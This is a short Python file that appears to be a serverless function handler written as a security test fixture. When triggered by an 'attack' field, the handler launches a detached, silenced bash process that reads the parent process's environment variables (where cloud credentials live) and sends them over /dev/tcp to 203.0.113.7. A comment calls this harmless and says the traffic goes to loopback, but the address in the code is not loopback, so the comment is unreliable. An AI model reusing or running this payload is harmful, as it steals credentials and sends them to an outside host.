# Harmless: the credentials are those of AWS's documentation, and go to an address on the sandbox's loopback device.
import subprocess
import time

THEFT = "exec 8</proc/$PPID/environ 9<>/dev/tcp/203.0.113.7/443; cat <&8 >&9; sleep 20"


def handler(event, context):
    if event.get("attack"):
        subprocess.Popen(["bash", "-c", THEFT], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(0.1)
    return "ok"
